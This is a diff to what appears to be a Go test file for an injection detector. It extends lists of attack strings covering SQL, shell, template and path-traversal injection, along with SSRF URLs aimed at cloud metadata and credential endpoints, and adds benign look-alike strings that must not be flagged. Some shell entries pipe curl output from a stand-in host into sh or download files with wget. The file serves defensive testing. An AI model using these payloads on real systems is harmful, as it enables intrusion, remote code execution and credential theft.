@@ -16,7 +16,7 @@ var attacks = map[Kind][]string{
 		`' union (select null, (select @@version)) --`, `3e0union select 1`, `1;drop table invoices--`, `1'; update staff set role='root' where id=3;--`,
 		`' and substring((select secret from staff limit 1),1,1)='a`, `' || (select pg_sleep(5)) || '`, `1 and sleep(4)`, `1' waitfor delay '0:0:5'--`,
 		`1 order by 12-- `, `' group by staff.id having 1=1--`, `/*!50000union*/ select 1`, `'='`, `'||'a'='a`, `1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)`,
-		`' into outfile '/var/www/x.php' --`, `' exec master..xp_cmdshell 'dir' --`, `select load_file('/etc/passwd')`, `1 and 1=(select count(*) from tabname)`, `or a = a`,
+		`' into outfile '/var/www/x.php' --`, `' exec master..xp_cmdshell 'dir' --`, `select load_file('/etc/passwd')`, `1 and 1=(select count(*) from tabname)`, `or a = a`, `1 or 1`, `7 || 7`, `'a'='a'`, `"a"<>"b" -- `, `a"" or 3=3--"`, `x\' or 'a'='a`, `1 and not sleep(5)`,
 		`%27%20or%201%3D1--`, `' or 1=1 limit 1 -- -`, `" or ""="`, `1 or id between 0 and 9`, `' or id between 0 and 9-- `, `if(1=1,sleep(5),0)`, `id desc,sleep(5)`, `a:" or "1"="1`, `copy staff to '/tmp/x'`, `1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- `,
 	},
 	HTML: {
@@ -30,14 +30,17 @@ var attacks = map[Kind][]string{
 	},
 	Shell: {
 		`; cat /etc/passwd`, `| whoami`, `a && curl http://h.example/x | sh`, "`id`", `$(id)`, `;c'a't /et"c"/passwd`, `x|/bin/ls -al`, `() { :; }; /bin/bash -c id`, `;getent$IFS$9hosts`, `& ping -c 3 127.0.0.1 &`,
-		"\nid\n", `; sleep 10`, `|| wget http://h.example/a -O /tmp/a`, `a;{curl,h.example}`, `--exec=id`, `& type %SYSTEMROOT%\repair\SAM`, `| set /a 2*3`, `;python3 -c 'x'`, `<(curl h.example)`,
+		"\nid\n", `; sleep 10`, `|| wget http://h.example/a -O /tmp/a`, `a;{curl,h.example}`, `--exec=id`, `& type %SYSTEMROOT%\repair\SAM`, `| set /a 2*3`, `;python3 -c 'x'`, `<(curl h.example)`, `127.0.0.1;id`, `7; id`, `a.txt;env`, `x;echo hi > /tmp/x`, `$(whoami)`,
 	},
 	Template: {
 		`{{7*7}}`, `${7*7}`, `#{6*7}`, `<%= 7*7 %>`, `{{config.items()}}`, `{{ ''.__class__.__mro__ }}`, `{% for c in [].__class__.__base__.__subclasses__() %}`, `${jndi:ldap://h.example/a}`, `${T(java.lang.Runtime)}`,
 		`{{request.application.__globals__}}`, `{{ cycler.next }}`, `{{self}}`, `<#assign a="b"?new()>`, `{{'7'*7}}`, `{%import os%}{{x}}{%set a=1%}`, `@(1+2).toString()` + `{{x()}}`, `${${lower:j}ndi:x}`,
 	},
 	Path: {
-		`../../../etc/passwd`, `..\..\..\windows\win.ini`, `/static/..;/admin`, `....//....//etc/hosts`, `%2e%2e%2f%2e%2e%2fetc%2fpasswd`, `..%c0%af..%c0%afetc/passwd`, `file:///etc/shadow`, `php://filter/read=x`, `/etc/passwd`, `/proc/self/environ`, `\\10.0.0.9\c$\users`,
+		`../../../etc/passwd`, `..\..\..\windows\win.ini`, `/static/..;/admin`, `....//....//etc/hosts`, `%2e%2e%2f%2e%2e%2fetc%2fpasswd`, `..%c0%af..%c0%afetc/passwd`, `file:///etc/shadow`, `php://filter/read=x`, `/etc/passwd`, `/proc/self/environ`, `../../secret.txt`, `../../../static/a.css`, "../../a.css\x00.txt", `../../etc/passwd?.css`,
+		`http://169.254.169.254/`, `http://169.254.169.254/latest/meta-data/iam/`, `HTTP://2852039166/`, `http://0xA9FEA9FE/x`, `http://0251.0376.0251.0376/`, `http://169.254.43518/`, `http://[::ffff:169.254.169.254]/`, `http://[fd00:ec2::254]/`,
+		`http://user@169.254.169.254:80/`, `//169.254.170.2/v2/credentials`, `http://metadata.google.internal/computeMetadata/v1/`, `http://169.254.169.254.nip.io/`, `http://100.100.100.200/latest`,
+		`\\10.0.0.9\c$\users`,
 		"../secret.key\x00.png", `%252e%252e%252f%252e%252e%252fetc/passwd`, `gopher://127.0.0.1:6379/_x`,
 	},
 	Code: {
@@ -104,6 +107,9 @@ var honest = []string{
 	"Location: Paris, near the station", "line one\nline two\nQuit smoking", "Subject: hello\nDear Ann,\nsee you", "(a) first (b) second", "f(x)=(x+1)(x-1)", "smile :) or (: smile", "price >= 10 && price <= 20", "SGVsbG8gd29ybGQsIGhvdyBhcmUgeW91", "abcdefghijklmnop", "d41d8cd98f00b204e9800998ecf8427e",
 	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36", "ann+list@example.org", "L'amour d'été à l'Église", "#hashtag #2", "-- signed, Ann", "why not? -- yes!", "key: value", "{\"a\": 1, \"b\": [true, null]}", "[link](https://example.com)", "it's 5 o'clock; let's go", "12, Rue de l'Église (2nd floor)", "sleep well", "kill -9? no", "only = (a)", "Prototype (v2)",
 	`5'8" or 5'9"`, `12" or 14" wheels`, `12" and 14"`, `5'-10"`, `title:"a b" AND year>2000`, `status:"open" or label:"good first"`, "=SUM(A1:A10)", `=IF(A1>5,"yes","no")`, "copy paper to 'tray 2'", `She said "select" and then 'union' at last`,
+	`"yes" = "no" ?`, `project = ABC AND status = "In Progress" ORDER BY created DESC`, `summary ~ "login" ORDER BY priority`, `do not sleep (5)`, `He did not sleep (well)`, "5 or 6", "1.5 or 2", "2^2=4", "$(this)",
+	"../../a.css", "../../static/site.css?v=3", "../../img/logo-2x.png", "name;id", "email;name;id", "a; echo and > are words",
+	"The address is http://169.254.169.254/ on most clouds", "http://169.253.1.1/", "https://metadata.example.com/a", "http://1.2.3.4/", "//cdn.example.com/a.js", "http://2130706433/",
 }
 
 func TestHonest(t *testing.T) {
